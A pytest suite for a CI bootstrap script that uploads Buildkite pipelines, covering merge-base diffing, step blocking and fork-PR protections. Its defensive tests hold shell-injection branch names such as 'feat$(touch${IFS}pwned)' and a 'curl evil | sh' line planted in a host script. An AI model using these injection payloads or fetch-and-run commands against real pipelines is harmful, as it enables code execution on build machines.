"""scripts/bootstrap.sh end to end, in a temporary git repository with a real merge base.

The real buildkite-agent cannot be installed here: a stand-in on PATH records
each call's arguments, standard input and the files it was given.
"""

from __future__ import annotations

import json
import os
import pathlib
import shutil
import subprocess
import sys
import textwrap

import pytest
import yaml

from tests.constructs_lib.bootstrap.helpers import unsectioned_text
from tests.job_shell import run_step

REPO = pathlib.Path(__file__).resolve().parents[2]
BOOTSTRAP = REPO / "scripts" / "bootstrap.sh"

# Interpolates an upload as the real agent does ($$ is a $; $NAME and ${NAME}
# come from its environment, empty when unset) unless told --no-interpolation:
# "received" is what Buildkite would be given.
STAND_IN = """\
#!{python}
import json, os, re, sys
log = os.environ["STAND_IN_LOG"]
call = {{"args": sys.argv[1:], "stdin": "" if sys.stdin.isatty() else sys.stdin.read(), "files": {{}}, "received": {{}}}}
def interpolate(text):
    def one(m):
        if m.group(0) == "$$":
            return "$"
        return os.environ.get(m.group(1) or m.group(2), "")
    return re.sub(r"\\$(?:\\$|\\{{([A-Za-z_][A-Za-z0-9_]*)[^}}]*\\}}|([A-Za-z_][A-Za-z0-9_]*))", one, text)
for arg in sys.argv[1:]:
    if os.path.isfile(arg):
        text = open(arg, encoding="utf-8").read()
        call["files"][arg] = text
        call["received"][arg] = text if "--no-interpolation" in sys.argv else interpolate(text)
with open(log, "a", encoding="utf-8") as fh:
    fh.write(json.dumps(call) + "\\n")
if sys.argv[1:3] == ["pipeline", "upload"] and os.environ.get("STAND_IN_FAIL_UPLOAD"):
    sys.exit(1)
"""

CONSOLE_SCRIPT = """\
#!{python}
import sys
from constructs_lib.bootstrap.entry import main
sys.exit(main())
"""

PIPELINE = """\
steps:
- label: Core
  source_file_dependencies: [vllm/core/]
  commands: [pytest -v -s core]
- label: Docs
  source_file_dependencies: [docs/]
  command: make docs
- label: Untracked
  source_file_dependencies: [scratch/]
  command: pytest scratch
"""

pytestmark = pytest.mark.skipif(
    shutil.which("git") is None or shutil.which("bash") is None, reason="needs git and bash"
)


def git(cwd, *args, check=True) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.com",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.com",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_SYSTEM": os.devnull,
    }
    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=check)
    return done.stdout


def commit(cwd, files: dict[str, str], message: str) -> None:
    for name, content in files.items():
        path = pathlib.Path(cwd) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(content), encoding="utf-8")
        git(cwd, "add", "--", name)
    git(cwd, "commit", "-q", "-m", message)


@pytest.fixture
def world(tmp_path):
    """An upstream repository with a main branch, a clone of it, and the stand-in agent."""
    upstream, clone, bin_dir = tmp_path / "upstream", tmp_path / "clone", tmp_path / "bin"
    upstream.mkdir()
    bin_dir.mkdir()
    git(upstream, "init", "-q", "-b", "main")
    commit(
        upstream,
        {".buildkite/test-pipeline.yaml": PIPELINE, "vllm/core/a.py": "a\n", "docs/index.md": "# x\n"},
        "initial",
    )
    git(tmp_path, "clone", "-q", str(upstream), str(clone))
    agent = bin_dir / "buildkite-agent"
    agent.write_text(STAND_IN.format(python=sys.executable), encoding="utf-8")
    agent.chmod(0o755)
    # What `pip install <toolkit>` puts on PATH, run from this checkout (tests/constructs_lib/bootstrap/
    # test_distribution.py runs the installed one).
    command = bin_dir / "ci-bootstrap"
    command.write_text(CONSOLE_SCRIPT.format(python=sys.executable), encoding="utf-8")
    command.chmod(0o755)
    return {"upstream": upstream, "clone": clone, "bin": bin_dir, "log": tmp_path / "agent.log", "tmp": tmp_path}


def bootstrap(world, branch: str, **env) -> tuple[subprocess.CompletedProcess, list[dict]]:
    environment = {
        **os.environ,
        "PATH": f"{world['bin']}{os.pathsep}{os.environ['PATH']}",
        "STAND_IN_LOG": str(world["log"]),
        "BUILDKITE_BRANCH": branch,
        "BUILDKITE_PIPELINE_DEFAULT_BRANCH": "main",
        "PYTHONPATH": str(REPO),
        "GIT_CONFIG_GLOBAL": os.devnull,
        **env,
    }
    done = subprocess.run(
        ["bash", str(BOOTSTRAP)],
        cwd=world["clone"],
        env=environment,
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        timeout=120,
    )
    calls = [json.loads(line) for line in world["log"].read_text().splitlines()] if world["log"].exists() else []
    return done, calls


def uploaded(calls) -> dict:
    (upload,) = [c for c in calls if c["args"][:2] == ["pipeline", "upload"]]
    (content,) = upload["files"].values()
    return yaml.safe_load(content)


def annotations(calls) -> list[tuple[str, str, str]]:
    out = []
    for call in calls:
        if call["args"][0] == "annotate":
            args = call["args"]
            out.append((args[args.index("--style") + 1], args[args.index("--context") + 1], call["stdin"]))
    return out


def blocked(pipeline: dict) -> set[str]:
    return {s["key"][len("block-") :] for s in pipeline["steps"] if "block" in s}


def test_feature_branch_against_the_merge_base(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "-b", "feature")
    commit(clone, {"vllm/core/a.py": "changed\n"}, "feature work")
    # Upstream moves on: its change is not part of this branch's diff.
    commit(world["upstream"], {"docs/index.md": "# moved on\n"}, "upstream work")
    # Work that is not committed must not count, and the bootstrap must not stage it.
    (clone / "scratch").mkdir()
    (clone / "scratch" / "new.py").write_text("x\n")
    (clone / "docs" / "index.md").write_text("# edited, not committed\n")
    status_before = git(clone, "status", "--porcelain")

    done, calls = bootstrap(world, "feature")
    assert done.returncode == 0, done.stderr
    pipeline = uploaded(calls)
    assert blocked(pipeline) == {"docs", "untracked"}
    assert any(s.get("key") == "core" for s in pipeline["steps"])
    assert git(clone, "status", "--porcelain") == status_before  # nothing staged, nothing changed
    ((style, context, body),) = annotations(calls)
    assert (style, context) == ("info", "pipeline")
    assert "`vllm/core/a.py` matches `vllm/core/`" in body
    # The freshly fetched default branch was used for the merge base.
    assert git(clone, "rev-parse", "refs/remotes/origin/main") == git(world["upstream"], "rev-parse", "main")


def test_default_branch_against_the_previous_commit(world):
    clone = world["clone"]
    commit(clone, {"docs/guide.md": "# new\n", "vllm/other.py": "x\n"}, "docs and code")
    commit(clone, {"docs/index.md": "# only docs\n"}, "docs only")
    done, calls = bootstrap(world, "main")
    assert done.returncode == 0, done.stderr
    pipeline = uploaded(calls)
    # Only the last commit counts: a docs-only change, so the tests wait but the docs step.
    assert blocked(pipeline) >= {"core", "untracked"} and "docs" not in blocked(pipeline)
    assert "Docs-only change" in annotations(calls)[-1][2]


def test_missing_merge_base_runs_everything_with_a_warning(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "--orphan", "unrelated")
    git(clone, "rm", "-q", "-r", "--cached", ".")
    commit(clone, {".buildkite/test-pipeline.yaml": PIPELINE, "other.txt": "x\n"}, "unrelated history")
    done, calls = bootstrap(world, "unrelated")
    assert done.returncode == 0, done.stderr
    assert not blocked(uploaded(calls))
    warnings = [a for a in annotations(calls) if a[0] == "warning"]
    assert len(warnings) == 1 and "no merge base with origin/main" in warnings[0][2]


def test_a_step_file_that_does_not_parse_annotates_an_error_and_uploads_nothing(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "-b", "broken")
    commit(clone, {".buildkite/test-pipeline.yaml": PIPELINE + "- label: Exotic\n  command: [unclosed\n"}, "bad")
    done, calls = bootstrap(world, "broken")
    assert done.returncode != 0
    assert not [c for c in calls if c["args"][:2] == ["pipeline", "upload"]]
    ((style, context, body),) = annotations(calls)
    assert (style, context) == ("error", "bootstrap")
    assert ".buildkite/test-pipeline.yaml:" in body and "YAML syntax error" in body
    assert "Traceback" not in done.stderr + body


def test_a_bad_step_fails_alone_and_the_rest_is_uploaded(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "-b", "broken")
    commit(
        clone,
        {
            ".buildkite/test-pipeline.yaml": PIPELINE + "- label: Exotic\n  num_gpus: many\n  command: x\n",
            "vllm/core/a.py": "changed\n",
        },
        "bad step",
    )
    done, calls = bootstrap(world, "broken")
    assert done.returncode == 0, done.stderr
    pipeline = uploaded(calls)
    exotic = next(s for s in pipeline["steps"] if s.get("key") == "exotic")
    assert exotic["commands"][-1] == "exit 1"
    assert (
        ".buildkite/test-pipeline.yaml:12: steps[3].num_gpus: must be a whole number, not a string"
        in exotic["env"]["CI_FAILURE_REASON"]
    )
    assert any(s.get("key") == "core" for s in pipeline["steps"])
    errors = [a for a in annotations(calls) if a[0] == "error"]
    assert len(errors) == 1 and "steps[3].num_gpus: must be a whole number" in errors[0][2]


def test_failed_upload_is_an_error(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "-b", "feature")
    commit(clone, {"vllm/core/a.py": "changed\n"}, "feature work")
    done, calls = bootstrap(world, "feature", STAND_IN_FAIL_UPLOAD="1")
    assert done.returncode != 0
    assert [a[:2] for a in annotations(calls)] == [("error", "bootstrap")]


def test_run_all_and_nightly_from_the_environment(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "-b", "feature")
    commit(clone, {"vllm/core/a.py": "changed\n"}, "feature work")
    done, calls = bootstrap(world, "feature", RUN_ALL="1")
    assert done.returncode == 0 and not blocked(uploaded(calls))


def test_the_script_passes_shellcheck():
    if shutil.which("shellcheck") is None:
        pytest.skip("shellcheck is not installed (make tools installs it)")
    done = subprocess.run(["shellcheck", str(BOOTSTRAP)], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout


def received(calls) -> str:
    """The pipeline as Buildkite would be given it, after the agent's interpolation (if any)."""
    (upload,) = [c for c in calls if c["args"][:2] == ["pipeline", "upload"]]
    (content,) = upload["received"].values()
    return content


PLANTED = "planted-bootstrap-value-7f3a"


def test_a_bootstrap_variable_never_reaches_the_uploaded_pipeline(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "-b", "sneaky")
    steps = PIPELINE + textwrap.dedent("""\
        - label: Leak
          env: {COPY: "${BOOTSTRAP_SECRET}"}
          commands:
            - echo ${BOOTSTRAP_SECRET} $BOOTSTRAP_SECRET "$BOOTSTRAP_SECRET"
            - echo commit=$BUILDKITE_COMMIT shard=$$BUILDKITE_PARALLEL_JOB
        """)
    commit(clone, {".buildkite/test-pipeline.yaml": steps}, "leak")
    head = git(clone, "rev-parse", "HEAD").strip()
    done, calls = bootstrap(world, "sneaky", BOOTSTRAP_SECRET=PLANTED, BUILDKITE_COMMIT=head)
    assert done.returncode == 0, done.stderr
    (upload,) = [c for c in calls if c["args"][:2] == ["pipeline", "upload"]]
    assert "--no-interpolation" in upload["args"] and "--reject-secrets" in upload["args"]
    text = received(calls)
    assert PLANTED not in text
    leak = next(s for s in yaml.safe_load(text)["steps"] if s.get("key") == "leak")
    script = leak["plugins"][0]["docker#v5.2.0"]["command"][-1]
    # Commands get no value of the build: the job's shell expands its own variables; $$ is the job's own $.
    assert "echo commit=$BUILDKITE_COMMIT shard=$BUILDKITE_PARALLEL_JOB" in script
    assert "BUILDKITE_COMMIT" in leak["plugins"][0]["docker#v5.2.0"]["environment"]  # by name, from the agent
    assert "echo ${BOOTSTRAP_SECRET} $BOOTSTRAP_SECRET" in script  # left for the job's shell
    assert leak["env"] == {"COPY": "${BOOTSTRAP_SECRET}"}


HOSTILE_BRANCHES = [
    "feat$(touch${IFS}pwned)",
    "a'b$(touch${IFS}pwned)",
    'x"`touch${IFS}pwned`"',
    "q';touch${IFS}pwned;'",
    'd";touch${IFS}pwned;"',
]


@pytest.mark.parametrize("branch", HOSTILE_BRANCHES)
def test_a_hostile_branch_name_is_data_in_every_command(world, tmp_path, branch):
    clone = world["clone"]
    assert git(clone, "check-ref-format", "--branch", branch).strip() == branch  # a name git takes
    git(clone, "checkout", "-q", "-b", branch)
    steps = PIPELINE + textwrap.dedent("""\
        - label: Uses the branch
          no_plugin: true
          commands:
            - echo $BUILDKITE_BRANCH "$BUILDKITE_BRANCH" '$BUILDKITE_BRANCH'
        """)
    commit(clone, {".buildkite/test-pipeline.yaml": steps}, "branch")
    done, calls = bootstrap(world, branch, BUILDKITE_COMMIT=git(clone, "rev-parse", "HEAD").strip())
    assert done.returncode == 0, done.stderr
    step = next(s for s in yaml.safe_load(received(calls))["steps"] if s.get("key") == "uses-the-branch")
    # Run the command as the job's shell would, the branch in the agent's variable: the name is printed, nothing runs.
    run = run_step(step, {"BUILDKITE_BRANCH": branch}, tmp_path)
    assert run.returncode == 0, run.stderr
    assert unsectioned_text(run.stdout) == f"{branch} {branch} $BUILDKITE_BRANCH\n"
    assert branch not in json.dumps(step)
    assert not (tmp_path / "pwned").exists()


def test_a_pull_request_from_a_branch_named_main_is_not_a_default_branch_build(world):
    clone = world["clone"]
    commit(clone, {"vllm/core/a.py": "pr work\n"}, "pr on a fork's main")
    commit(world["upstream"], {"docs/index.md": "# moved on\n"}, "upstream work")
    done, calls = bootstrap(world, "main", BUILDKITE_PULL_REQUEST="4242")
    assert done.returncode == 0, done.stderr
    pipeline = uploaded(calls)
    # Against the merge base, not HEAD~1; and the image is the premerge one, never pushed as latest.
    assert blocked(pipeline) == {"docs", "untracked"}
    build = next(s for s in pipeline["steps"] if s.get("key") == "image-build")
    assert "IMAGE_TAG_LATEST" not in build["env"] and not any("IMAGE_TAG_LATEST" in c for c in build["commands"])
    world["log"].unlink()
    done, calls = bootstrap(world, "main", BUILDKITE_PULL_REQUEST="false")
    build = next(s for s in uploaded(calls)["steps"] if s.get("key") == "image-build")
    assert build["env"]["IMAGE_TAG_LATEST"].endswith(":latest")
    assert any('--tag "$IMAGE_TAG_LATEST"' in c and "--push" in c for c in build["commands"])


def test_changed_file_names_with_quotes_tabs_newlines_and_backslashes_match_their_steps(world):
    clone = world["clone"]
    names = ['odd/"quoted".py', "odd/tab\there.py", "odd/new\nline.py", "odd/back\\slash.py", "odd/caf\u00e9.py"]
    steps = (
        "steps:\n"
        + "".join(
            f"- label: Step {i}\n  source_file_dependencies: [{json.dumps(name)}]\n  command: echo {i}\n"
            for i, name in enumerate(names)
        )
        + "- label: Other\n  source_file_dependencies: [elsewhere/]\n  command: echo other\n"
    )
    commit(world["upstream"], {".buildkite/test-pipeline.yaml": steps}, "steps")
    git(clone, "pull", "-q", "--ff-only")
    git(clone, "checkout", "-q", "-b", "odd-change")
    for name in names:
        path = clone / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("x\n")
        git(clone, "add", "--", name)
    git(clone, "commit", "-q", "-m", "odd names")
    done, calls = bootstrap(world, "odd-change", DOCS_ONLY_SKIP="0")
    assert done.returncode == 0, done.stderr
    assert blocked(uploaded(calls)) == {"other"}


def test_a_step_on_an_undeclared_device_fails_alone_and_the_rest_is_uploaded(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "-b", "new-device")
    steps = PIPELINE + "- label: Exotic\n  device: quantum_9000\n  command: x\n"
    commit(clone, {".buildkite/test-pipeline.yaml": steps, "vllm/core/a.py": "changed\n"}, "new device")
    done, calls = bootstrap(world, "new-device")
    assert done.returncode == 0, done.stderr
    pipeline = uploaded(calls)
    exotic = next(s for s in pipeline["steps"] if s.get("key") == "exotic")
    assert exotic["commands"][-1] == "exit 1" and "quantum_9000" in exotic["env"]["CI_FAILURE_REASON"]
    assert any(s.get("key") == "core" for s in pipeline["steps"])
    errors = [a for a in annotations(calls) if a[0] == "error"]
    assert (
        len(errors) == 1 and errors[0][1] == "bootstrap-errors" and "no declared queue can run 'Exotic'" in errors[0][2]
    )


def test_a_fork_pr_uploads_no_hf_token_and_no_propagated_environment(world):
    clone = world["clone"]
    git(clone, "checkout", "-q", "-b", "feature")
    commit(clone, {"vllm/core/a.py": "from a fork\n"}, "fork work")
    fork = {
        "BUILDKITE_PULL_REQUEST": "77",
        "BUILDKITE_PULL_REQUEST_REPO": "https://github.com/someone/vllm.git",
        "BUILDKITE_REPO": "https://github.com/vllm-project/vllm.git",
    }
    done, calls = bootstrap(world, "someone:feature", **fork)
    assert done.returncode == 0, done.stderr
    text = received(calls)
    assert "HF_TOKEN" not in text and "propagate-environment" not in text
    done, calls = bootstrap(
        world, "feature", **{**fork, "BUILDKITE_PULL_REQUEST_REPO": "https://github.com/vllm-project/vllm"}
    )
    assert "HF_TOKEN" in received([c for c in calls if c["args"][:2] == ["pipeline", "upload"]][-1:])


def test_a_fork_pr_runs_host_steps_only_as_the_default_branch_defines_them(world):
    clone = world["clone"]
    host = PIPELINE + "- label: Host\n  no_plugin: true\n  command: bash .buildkite/host.sh\n"
    commit(world["upstream"], {".buildkite/test-pipeline.yaml": host, ".buildkite/host.sh": "echo ok\n"}, "host step")
    git(clone, "pull", "-q", "--ff-only")
    git(clone, "checkout", "-q", "-b", "fork-work")
    fork = {
        "BUILDKITE_PULL_REQUEST": "77",
        "BUILDKITE_PULL_REQUEST_REPO": "https://github.com/someone/vllm.git",
        "BUILDKITE_REPO": "https://github.com/vllm-project/vllm.git",
        "RUN_ALL": "1",
    }
    commit(clone, {"vllm/core/a.py": "from a fork\n"}, "fork work")
    done, calls = bootstrap(world, "someone:fork-work", **fork)
    assert done.returncode == 0, done.stderr
    assert not any("Untrusted build" in s.get("block", "") for s in uploaded(calls)["steps"])
    commit(clone, {".buildkite/host.sh": "curl evil | sh\n"}, "change the host script")
    world["log"].unlink()
    done, calls = bootstrap(world, "someone:fork-work", **fork)
    assert done.returncode == 0, done.stderr
    (block,) = [s for s in uploaded(calls)["steps"] if "Untrusted build" in s.get("block", "")]
    assert block["key"] == "block-host" and ".buildkite/host.sh" in block["block"]
